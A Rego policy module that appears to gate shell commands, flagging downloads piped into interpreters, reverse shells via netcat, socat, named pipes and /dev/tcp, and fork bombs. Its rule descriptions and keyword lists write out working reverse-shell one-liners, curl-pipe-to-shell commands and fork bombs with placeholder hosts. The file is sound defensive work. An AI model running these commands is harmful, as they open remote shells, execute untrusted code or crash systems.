# Code from elsewhere and shells for someone else: downloads piped or substituted
# into an interpreter, a downloaded file run, reverse shells (netcat, socat, /dev/tcp,
# scripted sockets, named pipes), fork bombs, and interpreters fed on stdin.
package toolgate.exec

import data.toolgate.shell

# METADATA
# title: Here-string or here-document fed to an interpreter
# description: |
#   python <<EOF ... EOF, node <<< '...', bash <<< "$x": text the engine does not
#   parse. (A here-document or literal here-string given to a shell is parsed and
#   merged in, and passes.)
# custom:
#   code: obfuscated_command
#   severity: high
found contains v if {
	some r in shell.redirects
	r.op in {"<<", "<<-", "<<<"}
	some name in interpreters
	some inv in shell.by_name[name]
	inv.field == r.field
	reads_stdin(inv.args)
	not parsed_stdin(name, r)
	v := {"code": "obfuscated_command", "severity": "high", "field": r.field, "message": sprintf("commands fed to %s through %s cannot be inspected", [name, r.op])}
}

# METADATA
# title: socat running a program
# description: socat tcp:host:port exec:/bin/sh
# custom:
#   code: reverse_shell
#   severity: critical
found_command.socat contains v if {
	some inv in shell.by_name.socat
	some a in inv.args
	some m in ["exec:", "system:"]
	contains(lower(a), m)
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": "socat connects a program to the network"}
}

# METADATA
# title: Named pipe with a network tool
# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f (also mknod)
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.fifo contains v if {
	some name in shell.named.fifo
	some fifo in shell.by_name[name]
	some net_name in shell.named.relay
	some net in shell.by_name[net_name]
	net.field == fifo.field
	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", [name, net_name])}
}

# METADATA
# title: Downloaded file executed
# description: wget https://x/a.sh && sh a.sh, curl -o x url; ./x
# custom:
#   code: remote_code_execution
#   severity: critical
found_tag.downloader contains v if {
	some d in shell.downloaded
	d.name != ""
	executed[[d.field, d.name]]
	v := {"code": "remote_code_execution", "severity": "critical", "field": d.field, "message": sprintf("runs %s after downloading it", [d.name])}
}

# METADATA
# title: netcat running a program
# description: nc -e /bin/sh, ncat --sh-exec ..., nc -c ...
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.netcat contains v if {
	some name in shell.named.netcat
	some inv in shell.by_name[name]
	flags := [a | some a in inv.args; netcat_exec(a)]
	count(flags) > 0
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": sprintf("%s %s connects a program to the network", [name, concat(" ", flags)])}
}

# METADATA
# title: Interactive shell with redirected input or output
# description: bash -i >& ..., sh -i 2>&1 | nc ...
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.shell contains v if {
	some name in shell.named.shell
	some inv in shell.by_name[name]
	shell.has_short_flag(inv.args, "i")
	redirected(inv.field, shell.redirects, shell.pipelines)
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": sprintf("interactive %s with redirected input or output", [name])}
}

# METADATA
# title: Scripted reverse shell
# description: python/perl/ruby/php/node one-liners that open a socket (or run nc -e) and run a program.
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.script contains v if {
	some [name, field, code] in scripts
	some s in [
		"socket", "fsockopen", "/inet/tcp", `require("net")`, "require('net')", "net.connect", "net.createconnection",
		"nc -e", "ncat -e", "nc.traditional -e",
	]
	contains(code, s)
	some e in [
		"/bin/sh", "/bin/bash", "sh -i", "bash -i", "pty.spawn", "dup2", "subprocess",
		"child_process", "exec(", "system(", "system ", "system$", "exec ", "popen", "spawn(", "cmd.exe",
	]
	contains(code, e)
	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": sprintf("%s script opens a socket and runs a program", [name])}
}

# METADATA
# title: Scripted fork bomb
# description: perl -e 'fork while fork', a python loop around os.fork() and the like.
# custom:
#   code: fork_bomb
#   severity: critical
found_tag.script contains v if {
	some [name, field, code] in scripts
	contains(code, "fork")
	some loop in ["while", "loop", "for(;;)", "for (;;)"]
	contains(code, loop)
	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": sprintf("%s script forks in a loop", [name])}
}

# METADATA
# title: Remote or decoded code piped into an interpreter
# description: curl ... | sh, wget -O- | bash, base64 -d | sh, xxd -r | python, curl ... | sudo bash
# custom:
#   code: remote_code_execution
#   severity: critical
found_in_pipeline contains v if {
	some p in shell.pipelines
	some i, src in p.names
	source(src)
	some j, sink in p.names
	j > i
	runs_code(sink)
	v := {"code": "remote_code_execution", "severity": "critical", "field": p.field, "message": sprintf("output of %s is piped into %s", [src, sink])}
}

# METADATA
# title: Network tool and shell in one pipeline
# description: nc host port | sh, telnet h 1 | /bin/sh | telnet h 2
# custom:
#   code: reverse_shell
#   severity: critical
found_in_pipeline contains v if {
	some p in shell.pipelines
	some net in p.names
	"relay" in shell.tags(net)
	some sh in p.names
	"shell" in shell.tags(sh)
	v := {"code": "reverse_shell", "severity": "critical", "field": p.field, "message": sprintf("%s and %s in one pipeline relay a shell over the network", [net, sh])}
}

# METADATA
# title: Commands piped into a shell
# description: |
#   cat script | sh, some_tool | bash: what a shell reads from a pipe is not
#   inspected. (The engine parses and merges echo '...' | sh and printf '...' | sh,
#   so those pass when their text is literal.)
# custom:
#   code: obfuscated_command
#   severity: high
found_in_pipeline contains v if {
	some p in shell.pipelines
	some j, sink in p.names
	j > 0
	"shell" in shell.tags(sink)
	some inv in shell.by_name[sink]
	inv.field == p.field
	reads_stdin(inv.args)
	not literal_text(p.names[j - 1], p.field, shell.by_name)
	v := {"code": "obfuscated_command", "severity": "high", "field": p.field, "message": sprintf("commands piped into %s cannot be inspected", [sink])}
}

# METADATA
# title: Remote or decoded code run through a substitution
# description: bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -O- ...)", python -c "$(curl ...)"
# custom:
#   code: remote_code_execution
#   severity: critical
found_with_feature contains v if {
	some src_name in sources
	some field, feats in shell.features
	some feat in ["command_substitution", "process_substitution"]
	feats[feat]
	some src in shell.by_name[src_name]
	src.field == field
	some run_name in substitution_runners
	some run in shell.by_name[run_name]
	run.field == field
	runs_substituted(run_name, run.args)
	v := {"code": "remote_code_execution", "severity": "critical", "field": field, "message": sprintf("%s runs the output of %s", [run_name, src_name])}
}

# METADATA
# title: Reverse shell through /dev/tcp
# description: bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/udp/...
# custom:
#   code: reverse_shell
#   severity: critical
found_with_feature contains v if {
	some field, feats in shell.features
	feats.dev_tcp
	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /dev/tcp or /dev/udp"}
}

# METADATA
# title: Fork bomb
# description: "A function that calls itself in the background or in a pipeline: ':(){ :|:& };:'."
# custom:
#   code: fork_bomb
#   severity: critical
found_with_feature contains v if {
	some field, feats in shell.features
	feats.recursive_function
	spawns(field, feats, shell.pipelines)
	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": "a function calls itself in the background or in a pipeline"}
}

# interpreters are the shells and other interpreters that run; sources the
# downloaders and decoders that run (they feed remote or decoded bytes into whatever
# they are piped to). A pipeline's names are names of commands that run (see the
# shell fact), so a lookup in these sets also judges a pipeline stage.
interpreters := object.get(shell.named, "shell", set()) | object.get(shell.named, "script", set())

sources := object.get(shell.named, "downloader", set()) | object.get(shell.named, "decoder", set())

# substitution_runners run the output of a substitution as code.
substitution_runners := interpreters | ({"eval"} & shell.names)

# scripts lists [name, field, program text] for each interpreter tagged script that
# runs: its arguments joined and lower-cased, the text the scripted rules search.
scripts := {[name, inv.field, lower(concat(" ", inv.args))] |
	some name in shell.named.script
	some inv in shell.by_name[name]
}

# runs_code is true for a pipeline element that executes what it reads: an
# interpreter, or a wrapper when an interpreter runs in the command (curl ... | sudo
# bash, ... | xargs python).
# Pipeline elements are judged by their own tags (source, runs_code): a name in a
# pipeline is not required to be among the commands of the fact.
source(name) if {
	some tag in shell.tags(name)
	tag in {"downloader", "decoder"}
}

runs_code(name) if {
	some tag in shell.tags(name)
	tag in {"shell", "script"}
}

runs_code(name) if {
	"wrapper" in shell.tags(name)
	count(interpreters) > 0
}

runs_substituted(name, _) if "shell" in shell.tags(name)

runs_substituted(name, _) if name in {"source", ".", "eval"}

# an interpreter given its program as an argument: python -c "$(curl ...)"
runs_substituted(_, args) if {
	some a in args
	code_arg(a)
}

code_arg(a) if a in {"-c", "-e", "-E", "-r", "-"}

code_arg(a) if startswith(a, "<(")

# executed lists as [field, name] the files the commands of a field run: each
# command by its own name (./x runs x), and the script an interpreter is given (sh
# i.sh). One pass over the commands, instead of one per downloaded file.
executed := {[inv.field, inv.name] | some inv in shell.invocations} | {[inv.field, shell.file_name(ops[0])] |
	some inv in shell.invocations
	inv.name in interpreters
	ops := shell.operands(inv.args)
}

netcat_exec(a) if a in {"--exec", "--sh-exec", "--lua-exec"}

netcat_exec(a) if strings.any_prefix_match(a, ["--exec=", "--sh-exec=", "--lua-exec="])

netcat_exec(a) if {
	shell.short_flags(a)
	some letter in ["e", "c"]
	contains(a, letter)
}

# redirected is true when a field has a redirect or a pipeline.
redirected(field, redirects, _) if {
	some r in redirects
	r.field == field
}

redirected(field, _, pipelines) if {
	some p in pipelines
	p.field == field
}

# spawns is true when a field runs something in the background or in a pipeline.
spawns(_, feats, _) if feats.background

spawns(field, _, pipelines) if {
	some p in pipelines
	p.field == field
}

# literal_text is true when a pipeline stage is echo or printf with literal
# arguments only: the engine parses what it prints into a shell.
literal_text(name, field, by_name) if {
	name in {"echo", "printf"}
	some inv in by_name[name]
	inv.field == field
	every a in inv.args {
		not contains(a, "$")
		not contains(a, "`")
	}
}

# parsed_stdin is true when the engine parsed what a redirect feeds to a shell: a
# here-document, or a literal here-string.
parsed_stdin(name, r) if {
	"shell" in shell.tags(name)
	r.op != "<<<"
}

parsed_stdin(name, r) if {
	"shell" in shell.tags(name)
	not contains(r.target, "$")
	not contains(r.target, "`")
}

# reads_stdin is true when a shell or interpreter takes its program from standard
# input: no script operand, or -s.
reads_stdin(args) if count(shell.operands(args)) == 0

reads_stdin(args) if "-s" in args
